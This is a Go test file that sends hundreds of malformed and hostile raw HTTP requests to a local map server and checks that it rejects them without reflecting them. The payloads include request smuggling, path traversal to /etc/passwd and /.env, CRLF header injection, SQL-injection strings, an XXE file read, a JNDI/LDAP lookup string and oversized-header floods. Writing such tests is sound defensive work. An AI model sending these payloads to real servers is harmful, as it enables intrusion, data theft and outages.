//go:build linux

package attacktest

import (
	"bytes"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// A rawRequest is what a client sends, and what the server may answer.
type rawRequest struct {
	class, name, text string
	// want lists the statuses of the answers in turn, with | between alternatives. After the last one, + says that the
	// connection stays open, ? that it may, and nothing that it must be closed: what follows would be read as another request
	// than the client, or a proxy in front, means.
	want string
}

const (
	lineHost = "Host: lakes\r\n"
	// canary follows each request. It must be answered exactly if the connection stays open.
	canary = "GET /healthz?canary HTTP/1.1\r\nHost: lakes\r\nConnection: close\r\n\r\n"
	// marker must not be in any answer as it was sent: not in HTML, and not as a header field.
	marker, markerField, markerHost = "<script>", "X-Injected", "evil.example"
)

// get returns a request with additional header fields.
func get(path string, fields ...string) string {
	return "GET " + path + " HTTP/1.1\r\n" + lineHost + strings.Join(append(fields, ""), "\r\n") + "\r\n"
}

// rawRequests returns the requests that held when they were tried.
func rawRequests(s *target) []rawRequest {
	var all []rawRequest
	add := func(class, want, name, text string) { all = append(all, rawRequest{class, name, text, want}) }

	// Smuggling: lengths that two servers could read in different ways. The server closes the connection after its answer.
	const smuggled = "GET /smuggled HTTP/1.1\r\nHost: lakes\r\n\r\n"
	for _, test := range []struct{ want, name, fields, body string }{
		{"405", "CL.TE", "Content-Length: 6\r\nTransfer-Encoding: chunked", "0\r\n\r\nG"},
		{"405", "TE.CL", "Transfer-Encoding: chunked\r\nContent-Length: 4", "5c\r\n" + smuggled + "\r\n0\r\n\r\n"},
		{"501", "TE.TE: unknown first", "Transfer-Encoding: xchunked", smuggled},
		{"501|400", "TE.TE: unknown second", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x", "0\r\n\r\n" + smuggled},
		{"501|400", "TE.TE: list", "Transfer-Encoding: chunked, identity", "0\r\n\r\n" + smuggled},
		{"501|400", "TE.TE: identity", "Transfer-Encoding: identity\r\nContent-Length: 3", "abc" + smuggled},
		{"400", "TE: space before the colon", "Transfer-Encoding : chunked", "0\r\n\r\n" + smuggled},
		{"400|501", "TE: vertical tab", "Transfer-Encoding: \x0bchunked", "0\r\n\r\n" + smuggled},
		{"405", "TE: tab", "Transfer-Encoding:\tchunked", "0\r\n\r\n" + smuggled},
		{"405", "TE: upper case", "TRANSFER-ENCODING: CHUNKED", "0\r\n\r\n" + smuggled},
		{"400|501", "TE: quotes", "Transfer-Encoding: \"chunked\"", "0\r\n\r\n" + smuggled},
		{"400", "TE: line break in the name", "Transfer-Encoding\n: chunked", "0\r\n\r\n" + smuggled},
		{"405", "TE after a bare line feed", "X-A: a\nTransfer-Encoding: chunked", "0\r\n\r\n" + smuggled},
		{"400|501", "TE: folded", "Transfer-Encoding:\r\n chunked, x", "0\r\n\r\n" + smuggled},
		{"400", "two lengths", "Content-Length: 0\r\nContent-Length: 40", smuggled},
		{"405", "the same length twice", "Content-Length: 3\r\nContent-Length: 3", "abc" + smuggled},
		{"400|405", "a list of lengths", "Content-Length: 3, 3", "abc" + smuggled},
		{"400", "length with a sign", "Content-Length: +3", "abc" + smuggled},
		{"400", "negative length", "Content-Length: -3", "abc" + smuggled},
		{"400", "hexadecimal length", "Content-Length: 0x3", "abc" + smuggled},
		{"400", "length with a space", "Content-Length: 3 3", "abc" + smuggled},
		{"400", "length beyond 64 bits", "Content-Length: 99999999999999999999", "abc"},
		{"400", "empty length", "Content-Length:", smuggled},
		{"400", "length as a fraction", "Content-Length: 3.0", "abc" + smuggled},
		{"400", "length with a NUL", "Content-Length: 3\x00", "abc" + smuggled},
		{"400", "length: space before the colon", "Content-Length : 3", "abc" + smuggled},
		{"405", "chunk extension", "Transfer-Encoding: chunked", "1;a=b;c=\"d\"\r\na\r\n0\r\n\r\n" + smuggled},
		{"405", "chunk extension with a line feed", "Transfer-Encoding: chunked", "1;a\n\r\na\r\n0\r\n\r\n" + smuggled},
		{"405", "negative chunk", "Transfer-Encoding: chunked", "-1\r\n" + smuggled},
		{"405", "chunk beyond 64 bits", "Transfer-Encoding: chunked", "fffffffffffffffff\r\n" + smuggled},
		{"405", "chunk with 0x", "Transfer-Encoding: chunked", "0x1\r\na\r\n0\r\n\r\n" + smuggled},
		{"405", "chunk without end", "Transfer-Encoding: chunked", "1\r\nab0\r\n\r\n" + smuggled},
		{"405", "chunks with bare line feeds", "Transfer-Encoding: chunked", "1\na\n0\n\n" + smuggled},
		{"400", "trailers", "Transfer-Encoding: chunked\r\nTrailer: Content-Length", "0\r\nContent-Length: 9\r\n\r\n" + smuggled},
	} {
		add("smuggling", test.want, test.name, "POST / HTTP/1.1\r\n"+lineHost+test.fields+"\r\n\r\n"+test.body)
	}
	for _, test := range []struct{ want, name, fields, body string }{
		{"200", "GET with CL.TE", "Content-Length: 6\r\nTransfer-Encoding: chunked", "0\r\n\r\nG"},
		{"413", "GET with a body that is a request", "Content-Length: " + strconv.Itoa(len(smuggled)), smuggled},
		{"200", "GET with chunks", "Transfer-Encoding: chunked", "0\r\n\r\n" + smuggled},
		{"200+", "length 0", "Content-Length: 0", ""},
		{"200+", "HTTP/2 settings without upgrade", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA", ""},
		{"200+", "WebSocket", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13", ""},
		{"200+", "connection fields that a proxy would drop", "Connection: close-not, Host, Content-Length, X-API-Key", ""},
		{"413", "expected body", "Expect: 100-continue\r\nContent-Length: 5", "abcde"},
		{"200+", "expected without a body", "Expect: 100-continue", ""},
		{"417", "unknown expectation", "Expect: 200-maybe", ""},
	} {
		add("smuggling", test.want, test.name, get("/healthz", test.fields)+test.body)
	}

	// Request lines and fields that are wrong.
	for _, test := range []struct{ want, name, text string }{
		{"200+", "bare line feeds", "GET /healthz HTTP/1.1\nHost: lakes\n\n"},
		{"400", "bare carriage return in a value", get("/healthz", "X-A: a\rX-Injected: b")},
		{"400", "NUL in a value", get("/healthz", "X-A: a\x00b")},
		{"400", "NUL in a name", get("/healthz", "X-\x00: a")},
		{"400", "space before the colon", get("/healthz", "X-A : a")},
		{"400", "tab before the colon", get("/healthz", "X-A\t: a")},
		{"400", "no name", get("/healthz", ": a")},
		{"400", "no colon", get("/healthz", "X-A")},
		{"400", "name in UTF-8", get("/healthz", "X-Ä: a")},
		{"200+", "value in UTF-8", get("/healthz", "X-A: ä")},
		{"200+", "value in Latin-1", get("/healthz", "X-A: \xe4")},
		{"200+", "folded value", get("/healthz", "X-A: a\r\n b")},
		{"400", "folded first field", "GET /healthz HTTP/1.1\r\n Host: lakes\r\n\r\n"},
		{"400", "space before the method", " GET /healthz HTTP/1.1\r\n" + lineHost + "\r\n"},
		{"400", "two spaces", "GET  /healthz  HTTP/1.1\r\n" + lineHost + "\r\n"},
		{"400", "tabs", "GET\t/healthz\tHTTP/1.1\r\n" + lineHost + "\r\n"},
		{"400", "no path", "GET HTTP/1.1\r\n" + lineHost + "\r\n"},
		{"400", "HTTP/0.9", "GET /healthz\r\n\r\n"},
		{"505", "HTTP/3", "GET /healthz HTTP/3.0\r\n" + lineHost + "\r\n"},
		{"400", "HTTP/1.10", "GET /healthz HTTP/1.10\r\n" + lineHost + "\r\n"},
		{"400", "HTTP/1", "GET /healthz HTTP/1\r\n" + lineHost + "\r\n"},
		{"400", "http/1.1", "GET /healthz http/1.1\r\n" + lineHost + "\r\n"},
		{"400", "HTTP/1.1 and more", "GET /healthz HTTP/1.1 x\r\n" + lineHost + "\r\n"},
		{"400", "HTTP/-1.1", "GET /healthz HTTP/-1.1\r\n" + lineHost + "\r\n"},
		{"200", "HTTP/1.0 without a host", "GET /healthz HTTP/1.0\r\n\r\n"},
		{"405", "HTTP/1.0 with chunks", "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"},
		{"400", "path without a slash", "GET healthz HTTP/1.1\r\n" + lineHost + "\r\n"},
		{"400", "fragment and space", "GET /healthz#a b HTTP/1.1\r\n" + lineHost + "\r\n"},
		{"404+", "authority form", "CONNECT lakes:443 HTTP/1.1\r\n" + lineHost + "\r\n"},
		{"404+", "asterisk for GET", "GET * HTTP/1.1\r\n" + lineHost + "\r\n"},
		{"431", "header of 40 KiB", get("/healthz", "X-Large: "+strings.Repeat("a", 40<<10))},
		{"431", "40 KiB of fields", get("/healthz", slices.Repeat([]string{"X-Many: aaaaaaaaaaaa"}, 2000)...)},
		{"431+", "200 fields", get("/healthz", slices.Repeat([]string{"X-Many: a"}, 200)...)},
		{"414+", "address of 9 kB", get("/" + strings.Repeat("a", 9000))},
		{"431|414|400", "address of 40 KiB", get("/" + strings.Repeat("a", 40<<10))},
		{"400", "TLS", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n"},
		{"400", "SMTP", "EHLO lakes\r\n\r\n"},
		{"400", "a PNG", "\x89PNG\r\n\x1a\n\r\n\r\n"},
		{"200 200 200+", "pipelined requests", strings.Repeat(get("/healthz"), 3)},
		{"200", "closed by the first of two", get("/healthz", "Connection: close") + get("/smuggled")},
	} {
		add("syntax", test.want, test.name, test.text)
	}

	// Methods.
	for _, method := range []string{"PUT", "DELETE", "PATCH", "PROPFIND", "TRACE", "TRACK", "DEBUG", "get", "GETT", "MKCOL", "SEARCH", strings.Repeat("X", 1000)} {
		add("methods", "405?", fmt.Sprintf("%.20s", method), strings.Replace(get(statusPath), "GET", method, 1))
	}
	for _, field := range []string{"X-HTTP-Method-Override: DELETE", "X-Method-Override: PUT", "X-Original-URL: /metrics", "X-Rewrite-URL: /debug/pprof/heap"} {
		add("methods", "200+", field, get("/healthz", field))
	}
	add("methods", "200|204?", "preflight with long fields", strings.Replace(get(statusPath, "Origin: http://"+markerHost, "Access-Control-Request-Method: GET",
		"Access-Control-Request-Headers: "+strings.Repeat("x-a,", 2000)), "GET", "OPTIONS", 1))

	// Hosts: addresses in answers never come from them.
	for _, host := range []string{markerHost, markerHost + ":80", "127.0.0.1@" + markerHost, markerHost + "#", "a," + markerHost, markerHost + "/x", "lakes:99999", "lakes:80:80",
		"[::1", "%00", marker, "lakes\\" + markerHost, "http://" + markerHost, "xn--" + markerHost, strings.Repeat("a", 8000), "", " "} {
		add("hosts", "200|400?", fmt.Sprintf("%.30q", host), "GET /api/v1/tiles.json HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
	}
	add("hosts", "400", "none", "GET /healthz HTTP/1.1\r\n\r\n")
	add("hosts", "400", "two", get("/healthz", "Host: "+markerHost))
	for _, form := range []string{"http://" + markerHost, "https://" + markerHost, "http://user:pass@" + markerHost, "http://" + markerHost + ":99999", "ftp://" + markerHost, "http://[::1]"} {
		add("hosts", "200|400|404?", "absolute form "+form, "GET "+form+"/api/v1/tiles.json HTTP/1.1\r\n"+lineHost+"\r\n")
	}
	for _, field := range []string{"X-Forwarded-Host: " + markerHost, "X-Forwarded-Proto: " + marker, "Forwarded: host=" + markerHost + ";proto=https", "X-Forwarded-Prefix: //" + markerHost,
		"X-Forwarded-Port: 99999", "X-Real-IP: 127.0.0.1", "X-Host: " + markerHost, "Origin: http://" + markerHost, "Referer: http://" + markerHost + "/" + marker} {
		add("hosts", "200+", field, get("/api/v1/tiles.json", field))
	}

	// Paths that are not served, and other spellings of served ones.
	for _, path := range []string{
		"/../../etc/passwd", "/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/..;/..;/etc/passwd", "/..\\..\\windows\\win.ini", "/%5c..%5c..%5cboot.ini",
		"/assets/../../etc/passwd", "/assets/%2e%2e/%2e%2e/go.mod", "/assets/..%252f..%252fetc/passwd", "//etc/passwd", "///etc/passwd", "/./etc/passwd", "/%c0%ae%c0%ae/etc/passwd",
		"/%00", "/%0d%0aX-Injected:%20b", "/%0aX-Injected:%20b", "/.git/config", "/.env", "/lakes.db", "/debug/pprof/heap", "/debug/vars", "/proc/self/environ", "/server-status", "/wp-login.php",
		"/api/v1/tiles/../../../etc/passwd", "/api/v1/tiles/5/16/..%2f10.png", "/api/v1/tiles/5/16/10.png/", "/api/v1/tiles/5/16/10.png%00", "/api/v1/tiles/5/16/10.png%0d%0aX-Injected:%20b",
		"/api/v1/tiles/5/16/10.png/../../../../status", "/api/v1//tiles/5/16/10.png", "/api/v1/./tiles/5/16/10.png", "/API/V1/tiles/5/16/10.png", "/api/v1/tiles/5/16/10.png;a=b",
		"/api/v2/tiles/5/16/10.png", "/api/v1/monitor/../bathing-lakes/status",
	} {
		add("paths", "404|400?", path, get(path))
	}
	add("paths", "400", "wide escape", get("/%uff0e%uff0e/etc/passwd"))
	add("paths", "400", "broken escape", get("/%zz"))
	add("paths", "400", "escape at the end", get("/%a"))
	for _, tile := range []string{"-1/0/0", "99/0/0", "5/32/0", "5/0/32", "5/4294967296/0", "5/18446744073709551616/0", "5/1e1/1", "5/+1/1", "5/01/1", "5/0x1/1", "5/%EF%BC%91/1", "5/1/1@3x",
		"5/1/1@2x@2x", "5/1/1@", "5/%201/1", "5/1.0/1", "5//1", "5/1/", "5/NaN/1", strings.Repeat("9", 1000) + "/0/0", "5/" + strings.Repeat("0", 1000) + "1/1", "{z}/{x}/{y}", "5/1/1.png"} {
		add("tiles", "404?", fmt.Sprintf("%.40s", tile), get("/api/v1/tiles/"+tile+".png"))
	}
	for _, suffix := range []string{".PNG", ".jpg", ".png.mvt", ".mvt.png", "", ".", ".pbf"} {
		add("tiles", "404?", "extension "+suffix, get("/api/v1/tiles/5/16/10"+suffix))
	}
	for _, query := range []string{"style=../../etc/passwd", "style=" + marker, "style=%00", "colormap='%20OR%201=1", "colormap=", "date=0000-00-00", "date=9999-99-99", "date=2025-02-30", "date=1",
		"date=" + marker, "date=2025-08-25T00:00:00Z", "date=-2025-08-25", "style=heat&style=dots", "date=" + strings.Repeat("1", 4000)} {
		add("tiles", "400+", fmt.Sprintf("%.40s", query), get("/api/v1/tiles/5/16/10.png?"+query))
	}

	// Ids, names and words of searches.
	for _, id := range oddTexts {
		add("injection", "404|400?", fmt.Sprintf("history of %.40s", id), get("/api/v1/bathing-lakes/history/"+id))
		add("injection", "200|400+", fmt.Sprintf("search for %.40s", id), get("/api/v1/bathing-lakes/search?q="+id))
		add("injection", "200|400+", fmt.Sprintf("table of %.40s", id), get("/table?q="+id))
		for _, suffix := range []string{"", "/sign", "/preview.png", "/badge.svg"} {
			add("injection", "404|400?", fmt.Sprintf("page%s of %.40s", suffix, id), get("/lakes/"+id+suffix))
		}
		for _, path := range []string{"/api/v1/events?region=", "/api/v1/events.atom?region=", "/api/v1/events?since=", "/api/v1/bathing-lakes/advisories?lake=", "/api/v1/bathing-lakes/advisories?active_at=",
			"/api/v1/bathing-lakes/forecast?date=", "/lakes/" + s.lakes[0] + "?lang=", "/table?lang=", "/api/v1/legend.svg?lang=", "/embed?lake="} {
			add("injection", "200|400|404+", fmt.Sprintf("%s%.40s", path, id), get(path+id))
		}
		for _, path := range []string{"/api/v1/events?kind=", "/api/v1/events.atom?lake=%22", "/api/v1/events/stream?kind=", "/api/v1/events/stream?lake=%22", "/oembed?url=", "/oembed?format=xml&url="} {
			add("injection", "400|404+", fmt.Sprintf("%s%.40s", path, id), get(path+id))
		}
		add("injection", "400|404|410+", fmt.Sprintf("changes since %.40s", id), get("/api/v1/changes?since="+id))
		for _, path := range []string{"/api/v1/advisories/" + id + ".cap", "/sitemap/" + id + ".xml"} {
			add("injection", "404|400?", fmt.Sprintf("%.60s", path), get(path))
		}
		add("injection", "204|400|404?", fmt.Sprintf("unsubscribing %.40s", id), strings.Replace(get(subscribePath+"/"+id), "GET", "DELETE", 1))
	}
	for _, query := range []string{"service=" + marker, "service=WMTS&request=" + marker, "service=WMTS&request=GetTile&version=1.0.0&layer=" + marker, "service=WMTS&request=GetTile", "service=WMS&request=GetMap",
		"service=WMTS&request=GetTile&version=1.0.0&layer=chlorophyll&style=heat&tilematrixset=WebMercatorQuad&tilematrix=99&tilerow=0&tilecol=0&format=image/png", "service=WMTS&service=WMTS", "<!DOCTYPE%20x%20[<!ENTITY%20e%20SYSTEM%20'file:///etc/passwd'>]>"} {
		add("injection", "200|400|404|501?", fmt.Sprintf("WMTS %.40s", query), get("/wmts?"+query))
	}

	// Subscriptions: the only bodies that are read.
	post := func(body string, fields ...string) string {
		return strings.Replace(get(subscribePath, append(fields, "Content-Length: "+strconv.Itoa(len(body)))...), "GET", "POST", 1) + body
	}
	const isJSON = "Content-Type: application/json"
	for _, body := range []string{"", "null", "{}", "[1]", `{"endpoint":"https://evil.example/<script>"}`, `{"endpoint":{}}`, strings.Repeat("[", 10_000), "\x00", "\xff\xfe", `{"zone":"<script>"}`} {
		add("subscriptions", "400+", fmt.Sprintf("%.40q", body), post(body, isJSON))
	}
	add("subscriptions", "415+", "no type", post("{}"))
	add("subscriptions", "415+", "another type", post("{}", "Content-Type: text/plain"))
	add("subscriptions", "403+", "a page of another site", post("{}", isJSON, "Sec-Fetch-Site: cross-site"))
	add("subscriptions", "413", "17 kB", post(strings.Repeat(" ", 17<<10), isJSON))
	add("subscriptions", "400+", "compressed", post("\x1f\x8b", isJSON, "Content-Encoding: gzip"))

	// Keys.
	for _, key := range []string{"", "a", strings.Repeat("a", 10_000), "'%20OR%20'1'='1", "ä", s.key + "x", s.key[:len(s.key)-1], strings.ToUpper(s.key), "lm_00000000000000000000000000", "null", "*"} {
		add("keys", "401+", fmt.Sprintf("%.30q", key), get(monitorPath, "X-API-Key: "+key))
	}
	for _, field := range []string{"Authorization: Bearer " + s.key, "Authorization: Basic YTpi", "Cookie: X-API-Key=" + s.key, "X-Api-Keys: " + s.key, "X_API_Key: " + s.key} {
		add("keys", "401+", "elsewhere: "+field[:14], get(monitorPath, field))
	}
	add("keys", "401+", "in the address", get(monitorPath+"?X-API-Key="+s.key+"&api_key="+s.key))
	add("keys", "401|404+", "escaped slash", get("/api/v1/monitor%2flakes"))
	add("keys", "400|401?", "two keys", get(monitorPath, "X-API-Key: "+s.key+"x", "X-API-Key: "+s.key))

	// Fields that make a server work.
	many := func(item string, n int) string { return strings.TrimSuffix(strings.Repeat(item+",", n), ",") }
	for _, field := range []string{
		"Range: bytes=" + many("0-", 3000), "Range: bytes=" + many("0-0", 3000), "Range: bytes=0-99999999999999999999", "Range: bytes=99999999999999999999-", "Range: bytes=-0", "Range: bytes=5-4", "Range: bytes=a-b",
		"Range: items=0-1", "Range: bytes=", "Range: bytes=0-0,1-1,2-2,3-3,4-4,5-5", "Range: bytes=0-0\r\nIf-Range: \"x\"", "Range: bytes=0-0\r\nIf-Range: " + strings.Repeat("a", 8000),
		"If-None-Match: " + many(`"a"`, 3500), "If-None-Match: " + many(`W/"a"`, 2000), "If-None-Match: \"" + strings.Repeat("a", 12_000), "If-None-Match: " + strings.Repeat(`"`, 12_000), "If-None-Match: *",
		"If-Match: \"x\"", "If-Modified-Since: " + strings.Repeat("9", 1000), "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
		"Accept-Encoding: " + many("gzip", 2800), "Accept-Encoding: " + many("gzip;q=0.5", 1000), "Accept-Encoding: gzip;q=NaN", "Accept-Encoding: gzip;q=1e999, br;q=-1", "Accept-Encoding: *;q=0, identity;q=0",
		"Accept-Encoding: " + strings.Repeat(",", 12_000), "Accept-Encoding: " + strings.Repeat(";", 12_000), "Accept: " + many("application/json;q=0.1", 500), "Accept: */*;" + strings.Repeat("a=b;", 2500),
		"Accept-Language: " + many("de", 4000), "Accept-Language: " + many("de-DE-x-aaaaaaaa;q=0.1", 500), "Accept-Language: " + strings.Repeat("-", 12_000), "Accept-Language: " + strings.Repeat("x-", 5000),
		"X-Forwarded-For: " + many("10.0.0.1", 1200), "X-Forwarded-For: " + marker, "X-Forwarded-For: " + strings.Repeat("::", 5000), "X-Forwarded-For: 127.0.0.1", "Forwarded: " + many("for=10.0.0.1", 900),
		"traceparent: 00-" + strings.Repeat("0", 32) + "-" + strings.Repeat("0", 16) + "-00", "traceparent: " + strings.Repeat("f", 12_000), "traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
		"tracestate: " + many("a=b", 3000), "baggage: " + many("a=b", 3000), "X-Request-ID: " + marker, "X-Request-ID: " + strings.Repeat("a", 12_000), "Cookie: " + strings.Repeat("a=b; ", 2400),
		"User-Agent: ${jndi:ldap://x/a}", "User-Agent: " + strings.Repeat("(", 12_000), "Content-Type: multipart/form-data; boundary=" + strings.Repeat("a", 8000), "Cache-Control: " + many("no-cache", 1200), "Connection: " + many("x", 5000),
	} {
		want := "200|206|304|400|406|412|416?"
		add("fields", want, fmt.Sprintf("tile, %.40q", field), get("/api/v1/tiles/5/16/10.png", field))
		add("fields", want, fmt.Sprintf("list, %.40q", field), get(statusPath+"?max_lat=50", field))
	}
	return all
}

// TestRawRequests sends each request on a connection of its own. The server gives one of the expected answers, shows nothing
// of the request as it is, and reads the next request only where the client means it.
func TestRawRequests(t *testing.T) {
	s := newTarget(t, 500, "--api-rate", "0", "--tile-rate", "0", "--key-rate", "0", "--log-level", "debug")
	all := rawRequests(s)
	if len(all) < 200 {
		t.Errorf("%d requests, want 200 or more", len(all))
	}
	before, err := s.usage()
	must(t, err)
	watched := s.watch()
	s.closures.begin(t)
	each(len(all), 8, func(i int) {
		test := all[i]
		got, err := s.Converse(test.text+canary, patience)
		if err != nil {
			t.Errorf("%s: %s: %v", test.class, test.name, err)
			return
		}
		if !answersMatch(got.Statuses, test.want) {
			t.Errorf("%s: %s: answered %v, want %s", test.class, test.name, got.Statuses, test.want)
		}
		// The page's own scripts are files, so no answer holds the start tag of a script without attributes.
		if bytes.Contains(got.Raw, []byte(marker)) {
			t.Errorf("%s: %s: the answer contains %q", test.class, test.name, marker)
		}
		for _, header := range got.Headers {
			if header.Get(markerField) != "" {
				t.Errorf("%s: %s: the answer has a header field of the request", test.class, test.name)
			}
		}
		if test.class == "hosts" && bytes.Contains(got.Raw, []byte(markerHost)) {
			t.Errorf("%s: %s: the answer contains %q", test.class, test.name, markerHost)
		}
	})
	told := s.closures.end(t)
	most, err := watched.stop()
	must(t, err)
	after, excess, err := s.settle(before, settleTime)
	must(t, err)
	if excess != "" {
		t.Errorf("not returned: %s", excess)
	}
	if status := s.StatusOf("/readyz"); status != http.StatusOK {
		t.Errorf("/readyz: %d after the requests", status)
	}
	verdict := "held"
	if t.Failed() {
		verdict = "failed"
	}
	results.add(row{class: "raw requests", name: fmt.Sprintf("%d of HTTP/1", len(all)), before: before, peak: most, after: after, idle: 1, verdict: verdict, outcome: countClasses(all) + ", " + told})
	stopCleanly(t, s)
}

// countClasses describes how many requests there are of each class.
func countClasses(all []rawRequest) string {
	var parts []string
	for i := 0; i < len(all); {
		n := i
		for n < len(all) && all[n].class == all[i].class {
			n++
		}
		parts = append(parts, fmt.Sprintf("%d× %s", n-i, all[i].class))
		i = n
	}
	return strings.Join(parts, ", ")
}

// answersMatch reports whether the statuses are as want says, followed by that of the canary if the connection stays open. Any
// answer may also be 503, if the machine is busy, or 499: Converse shuts down its side when all is sent, which looks as if the
// client had gone.
func answersMatch(got []int, want string) bool {
	var open, maybe bool
	want, open = strings.CutSuffix(want, "+")
	want, maybe = strings.CutSuffix(want, "?")
	answers := strings.Fields(want)
	answered := len(got) == len(answers)+1 && got[len(got)-1] == http.StatusOK
	closed := len(got) == len(answers)
	if open && !answered || !open && !maybe && !closed || !answered && !closed {
		return false
	}
	for i, allowed := range answers {
		if !slices.Contains(append(strings.Split(allowed, "|"), "499", "503"), strconv.Itoa(got[i])) {
			return false
		}
	}
	return true
}
